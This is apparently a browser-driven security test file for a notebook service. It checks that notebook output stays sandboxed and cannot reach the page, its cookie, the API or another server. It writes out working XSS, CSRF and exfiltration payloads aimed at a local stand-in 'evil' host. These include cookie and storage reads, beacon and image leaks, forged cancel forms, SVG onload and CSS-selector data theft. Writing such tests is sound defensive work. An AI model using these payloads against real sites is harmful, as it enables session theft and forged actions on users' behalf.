// Notebooks that try to leave their frame: to the page, its cookie, the API, the
// address bar, another server.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { sheet, signIn, startBrowser } from "./browser.mjs";
import { code, notebook, show, text } from "./notebook.mjs";
import { startServer } from "./server.mjs";

let server, browser, evil, evilURL;
const reached = []; // what came to the other server
before(async () => {
  server = await startServer();
  browser = await startBrowser();
  evil = createServer((request, response) => {
    reached.push(request.url);
    response.setHeader("Access-Control-Allow-Origin", "*").end("");
  });
  await new Promise((resolve) => evil.listen(0, "127.0.0.1", resolve));
  evilURL = `http://127.0.0.1:${evil.address().port}`;
});
after(async () => {
  await browser?.close();
  await server?.stop();
  await new Promise((resolve) => evil.close(resolve));
});

// attempts is a script that tries everything and writes down what it could do.
const attempts = (execution) => `
const did = [];
const tries = {
  cookie: () => document.cookie,
  storage: () => String(localStorage),
  parentDocument: () => parent.document.body.innerHTML,
  topDocument: () => top.document.title,
  navigateTop: () => { top.location = ${JSON.stringify(evilURL)} + "/top"; },
  opens: () => { if (!open(${JSON.stringify(evilURL)} + "/window")) throw 1; },
};
for (const [name, attempt] of Object.entries(tries)) { try { attempt(); did.push(name); } catch {} }
const asks = [
  ["readsAPI", "/quire/v1/executions/${execution}", {}],
  ["readsAsPage", "/quire/v1/executions/${execution}", { headers: { "Quire-Page": "1" }, credentials: "include" }],
  ["cancels", "/operations/${execution}:cancel", { method: "POST", headers: { "Quire-Page": "1" }, credentials: "include" }],
  ["blindCancel", "/operations/${execution}:cancel", { mode: "no-cors", credentials: "include" }],
  ["leaks", ${JSON.stringify(evilURL)} + "/fetch", { mode: "no-cors" }],
];
Promise.all(asks.map(async ([name, url, init]) => { try { await fetch(url.startsWith("/") ? ${JSON.stringify("SERVER")} + url : url, init); did.push(name); } catch {} }))
  .then(() => { navigator.sendBeacon && navigator.sendBeacon(${JSON.stringify(evilURL)} + "/beacon", "x"); new Image().src = ${JSON.stringify(evilURL)} + "/image";
    try { new WebSocket(${JSON.stringify(evilURL)}.replace("http", "ws")); } catch {}
    const form = document.createElement("form"); form.method = "post"; form.action = "SERVER/operations/${execution}:cancel"; document.body.append(form); try { form.submit(); } catch {}
    document.body.dataset.did = JSON.stringify(did); });
`;

test("what a notebook's output does stays in its frame", async () => {
  const page = await signIn(browser, server);
  const project = await server.project("hostile");
  const dialogs = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    return dialog.dismiss();
  });
  // One that runs is what could be cancelled.
  await server.put(project, "victim.ipynb", notebook(code("import time, os\nwhile not os.path.exists('end'): time.sleep(0.02)")));
  const victim = await server.run(project, "victim.ipynb");
  const script = attempts(victim).replaceAll("SERVER", server.url);
  const html = (body) => show({ "text/html": body });
  await server.put(project, "hostile.ipynb", notebook(
    text(`# Evil\n\n<img src="x" onerror="document.body.dataset.markdown = 1"> <script>top.location = "${evilURL}/md"</script> [link](javascript:top.location='${evilURL}') ![](${evilURL}/markdown-image)`),
    html(`<p>it ran</p><script>${script}</script>`),
    html(`<meta http-equiv="refresh" content="0; url=${evilURL}/refresh"><base href="${evilURL}/">`),
    html(`<style>@import url(${evilURL}/import.css); body { background: url(${evilURL}/css-${"x"}) } input[value^="a"] { background: url(${evilURL}/stolen) }</style><input value="a">`),
    html(`<a id="js" href="javascript:top.location='${evilURL}/js'">script link</a> <a id="top" target="_top" href="${evilURL}/target">top link</a>`),
    html(`<iframe src="${server.url}/#/"></iframe><object data="${evilURL}/object"></object><embed src="${evilURL}/embed"><link rel="prefetch" href="${evilURL}/prefetch"><link rel="dns-prefetch" href="//evil.test">`),
    show({ "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" onload="top.location='${evilURL}/svg'"><script>parent.document.title='owned'</script><image href="${evilURL}/svg-image"/><text x="1" y="20">svg</text></svg>` }),
    show({ "application/javascript": `top.location = "${evilURL}/javascript"` }),
    show({ "text/latex": `$\\href{javascript:top.location='${evilURL}/tex'}{x}$` }),
    show({ "application/vnd.vegalite.v5+json": { data: { url: `${evilURL}/vega.json` }, mark: "bar", encoding: {} } }),
    html(`<script>parent.postMessage({ type: "link", url: "${evilURL}/unasked" }, "*"); for (let i = 0; i < 50; i++) parent.postMessage({ type: "ready" }, "*"); parent.postMessage(null, "*")</script><b>last</b>`),
  ));
  const id = await server.run(project, "hostile.ipynb");
  await server.ended(id);
  const before = await page.evaluate(() => document.title);
  await page.goto(`${server.url}/#/executions/${id}`);
  const frame = sheet(page);
  await frame.getByText("it ran", { exact: true }).waitFor();
  const inner = page.frames().find((f) => f.url().endsWith("/frame.html"));
  await inner.waitForFunction(() => document.body.dataset.did !== undefined);
  assert.deepEqual(JSON.parse(await inner.evaluate(() => document.body.dataset.did)), [], "what the script could do");
  assert.equal(await inner.evaluate(() => origin), "null");
  await inner.evaluate(() => document.querySelector('[data-cell="10"]').scrollIntoView());
  await frame.getByText("last", { exact: true }).waitFor();
  await frame.locator("#js").click();
  await frame.locator("#top").click();
  const bar = page.locator(".link-bar");
  await bar.getByText(`The notebook links to ${evilURL}/target`).waitFor(); // and follows it nowhere
  await bar.getByRole("button", { name: "Stay here" }).click();
  assert.deepEqual(dialogs, [], "nothing was asked");

  assert.equal(page.url(), `${server.url}/#/executions/${id}`, "the page is where it was");
  assert.equal(await page.evaluate(() => document.title), before);
  assert.deepEqual(reached, [], "what reached another server");
  assert.equal((await server.call("GET", `/quire/v1/executions/${victim}`)).state, "RUNNING", "what runs was not cancelled");
  assert.equal(page.context().pages().length, 1, "no window was opened");
  // The page's own words: nothing of the notebook is in it but text.
  await page.getByRole("button", { name: "Retry" }).waitFor();
  await server.put(project, "end", "");
  await server.ended(victim);
  await page.context().close();
});

test("the frame alone, and the report, have no rights of ours either", async () => {
  const page = await signIn(browser, server);
  const project = await server.project("direct");
  await server.put(project, "n.ipynb", notebook(show({ "text/html": `<script>document.title = "ran"</script><img src="${evilURL}/report"><b>shown</b>`, "text/plain": "plain" })));
  const id = await server.run(project, "n.ipynb");
  await server.ended(id);
  await page.goto(`${server.url}/frame.html`);
  assert.equal(await page.evaluate(() => origin), "null");
  await page.goto(`${server.url}/quire/v1/executions/${id}/html`);
  await page.getByText("shown", { exact: true }).waitFor();
  assert.equal(await page.title(), "n.ipynb");
  assert.equal(await page.locator("script").count(), 0);
  assert.deepEqual(reached, []);
  await page.context().close();
});

test("another site cannot act by the cookie", async () => {
  const page = await signIn(browser, server);
  const other = await page.context().newPage();
  const project = await server.project("csrf");
  await server.put(project, "n.ipynb", notebook(code("import time, os\nwhile not os.path.exists('end'): time.sleep(0.02)")));
  const id = await server.run(project, "n.ipynb");
  await page.goto(`${server.url}/#/executions/${id}`);
  await page.locator(".state.running").waitFor();
  await other.goto(`${evilURL}/site`);
  await other.evaluate(async (target) => {
    const ask = (init) => fetch(target, { mode: "no-cors", credentials: "include", ...init }).catch(() => {});
    await ask({});
    await ask({ method: "POST", body: "{}" });
    await fetch(target, { method: "POST", headers: { "Quire-Page": "1" }, credentials: "include" }).catch(() => {});
  }, `${server.url}/operations/${id}:cancel`);
  assert.equal((await server.call("GET", `/quire/v1/executions/${id}`)).state, "RUNNING");
  await server.put(project, "end", "");
  await server.ended(id);
  reached.length = 0;
  await page.context().close();
});
